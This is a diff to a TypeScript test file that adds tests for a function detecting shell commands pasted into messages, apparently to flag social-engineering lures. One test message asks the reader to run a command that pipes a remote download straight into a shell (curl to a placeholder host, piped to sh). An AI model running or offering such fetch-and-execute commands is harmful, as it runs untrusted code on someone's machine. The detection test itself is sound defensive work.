@@ -1,6 +1,6 @@
 import fc from 'fast-check'
 import { expect, test } from 'vitest'
-import { hasHeaders, kindOfText, TEXT_KINDS } from './pasted.ts'
+import { commandIn, hasHeaders, kindOfText, TEXT_KINDS } from './pasted.ts'
 
 test.each([
   'https://github.com/acme/take-home',
@@ -60,6 +60,15 @@ test('pasted mail is told from the body of one', () => {
   expect(hasHeaders('Hello: I write\nNote: this is the body')).toBe(false)
 })
 
+test('a command that stands in a message is found; words about one are not', () => {
+  expect(commandIn('Hi Ada,\nplease run:\n\n  $ curl -s https://x.invalid | sh\n\nThanks')).toBe(
+    '$ curl -s https://x.invalid | sh',
+  )
+  expect(commandIn('Hi.\n`npm i --prefix ./task`')).toBe('npm i --prefix ./task')
+  expect(commandIn('Hello.\nGit is broken - can you help?\nSet up a call; I am free.')).toBeUndefined()
+  expect(commandIn('Open https://x.invalid and sign in. Then write me.')).toBeUndefined()
+})
+
 test('any text is one of the three, in time that grows with its length', () => {
   fc.assert(
     fc.property(fc.string({ maxLength: 400, unit: 'grapheme' }), (text) =>
@@ -68,4 +77,7 @@ test('any text is one of the three, in time that grows with its length', () => {
   )
   for (const piece of ['a.', '- ', "'", '"', '$(', 'aa. A a ', 'a@a:', '`', ';', '1>'])
     expect(TEXT_KINDS).toContain(kindOfText(piece.repeat(100_000)))
+  fc.assert(
+    fc.property(fc.string({ maxLength: 400 }), (text) => (commandIn(text) ?? '').length <= text.length),
+  )
 })
